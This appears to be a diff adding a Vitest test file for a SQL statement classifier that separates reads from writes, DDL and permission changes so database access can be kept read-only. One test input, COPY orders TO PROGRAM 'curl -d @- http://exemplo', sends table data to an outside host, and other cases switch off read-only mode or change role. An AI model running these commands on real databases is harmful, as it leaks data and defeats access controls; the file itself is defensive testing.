@@ -0,0 +1,114 @@
+import { describe, expect, it } from 'vitest';
+import { classifySql, type StatementKind } from '@agentdb/core';
+
+// Volatilidade como viria do pg_proc: purge_orders e uma funcao do usuario VOLATILE
+const VOLATILITY: Record<string, boolean> = {
+  lower: true,
+  now: true,
+  nextval: false,
+  setval: false,
+  purge_orders: false,
+  monthly_total: true,
+};
+
+function classify(sql: string) {
+  return classifySql(sql, { isNonVolatileFunction: (name) => VOLATILITY[name] });
+}
+
+describe('classifySql', () => {
+  it.each<[string, StatementKind, string]>([
+    // Leituras
+    ['SELECT 1', 'read', 'SELECT'],
+    ["SELECT lower(name) FROM customers WHERE city = 'Recife'", 'read', 'SELECT'],
+    ['SELECT monthly_total(1)', 'read', 'SELECT'],
+    ['EXPLAIN SELECT * FROM orders', 'read', 'EXPLAIN'],
+    ['COPY orders TO STDOUT', 'read', 'COPY'],
+    ['SHOW search_path', 'read', 'SHOW'],
+
+    // Escritas, inclusive escondidas em CTE, funcao ou EXPLAIN ANALYZE
+    ['DELETE FROM orders', 'write', 'DELETE'],
+    ['WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone', 'write', 'SELECT'],
+    ["SELECT nextval('orders_id_seq')", 'write', 'SELECT'],
+    ["SELECT setval('orders_id_seq', 1)", 'write', 'SELECT'],
+    ['SELECT * FROM orders FOR UPDATE', 'write', 'SELECT'],
+    ['EXPLAIN ANALYZE DELETE FROM orders', 'write', 'EXPLAIN'],
+    ["COPY orders TO PROGRAM 'curl -d @- http://exemplo'", 'write', 'COPY'],
+    ['COPY orders FROM STDIN', 'write', 'COPY'],
+    ['TRUNCATE orders', 'write', 'TRUNCATE'],
+    ['DO $$ BEGIN DELETE FROM orders; END $$', 'write', 'DO'],
+    ['CALL purge_orders()', 'write', 'CALL'],
+    ['COMMIT', 'write', 'TRANSACTION'],
+
+    // DDL, manutencao e permissoes
+    ['CREATE TABLE notes (id int)', 'ddl', 'CREATE TABLE'],
+    ['SELECT * INTO orders_copy FROM orders', 'ddl', 'SELECT'],
+    ['VACUUM orders', 'ddl', 'VACUUM'],
+    ['GRANT SELECT ON orders TO analyst', 'dcl', 'GRANT'],
+
+    // Funcoes VOLATILE do usuario ou desconhecidas ficam para o BEGIN READ ONLY
+    ['SELECT purge_orders()', 'unknown', 'SELECT'],
+    ['SELECT not_in_catalog()', 'unknown', 'SELECT'],
+    ['LISTEN pedidos', 'unknown', 'LISTEN'],
+  ])('%s -> %s', async (sql, kind, command) => {
+    const classification = await classify(sql);
+
+    expect(classification.parseError).toBeNull();
+    expect(classification.kind).toBe(kind);
+    expect(classification.statements.map((s) => s.command)).toEqual([command]);
+  });
+
+  it.each<[string, StatementKind]>([
+    // SET comum nao sai do BEGIN READ ONLY
+    ['SET statement_timeout = 0', 'unknown'],
+    ['SET search_path TO billing', 'unknown'],
+    ['RESET search_path', 'unknown'],
+    // SETs que desligam a protecao somente leitura ou trocam o papel
+    ['SET default_transaction_read_only = off', 'write'],
+    ['SET transaction_read_only = off', 'write'],
+    ['SET TRANSACTION READ WRITE', 'write'],
+    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'write'],
+    ['SET ROLE admin', 'write'],
+    ['SET SESSION AUTHORIZATION admin', 'write'],
+    ['RESET ALL', 'write'],
+  ])('%s -> %s', async (sql, kind) => {
+    const classification = await classify(sql);
+
+    expect(classification.kind).toBe(kind);
+    expect(classification.statements.map((s) => s.command)).toEqual(['SET']);
+  });
+
+  it.each<[string, string[]]>([
+    ['SET search_path TO billing', ['search_path']],
+    ["SET SCHEMA 'billing'", ['search_path']],
+    ['RESET ALL', ['*']],
+    ["SELECT set_config('search_path', 'billing', true)", ['search_path']],
+    ["SELECT set_config(lower('SEARCH_PATH'), 'billing', true)", ['*']],
+    ["UPDATE pg_settings SET setting = 'billing' WHERE name = 'search_path'", ['*']],
+    ['SELECT 1', []],
+  ])('registra os parametros alterados por %s', async (sql, settings) => {
+    const [statement] = (await classify(sql)).statements;
+
+    expect(statement.references.settings).toEqual(settings);
+  });
+
+  it('usa o veredito mais severo do lote', async () => {
+    const classification = await classify('SELECT 1; GRANT SELECT ON orders TO analyst; DELETE FROM orders');
+
+    expect(classification.kind).toBe('dcl');
+    expect(classification.statements.map((s) => s.kind)).toEqual(['read', 'dcl', 'write']);
+  });
+
+  it('devolve o erro de sintaxe sem statements', async () => {
+    const classification = await classify('SELEC 1');
+
+    expect(classification.kind).toBe('unknown');
+    expect(classification.statements).toEqual([]);
+    expect(classification.parseError).toMatch(/syntax error/);
+  });
+
+  it('deixa CTEs fora das referencias', async () => {
+    const [statement] = (await classify('WITH recent AS (SELECT * FROM orders) SELECT id FROM recent')).statements;
+
+    expect(statement.references.relations).toEqual([{ schema: null, name: 'orders', alias: null }]);
+  });
+});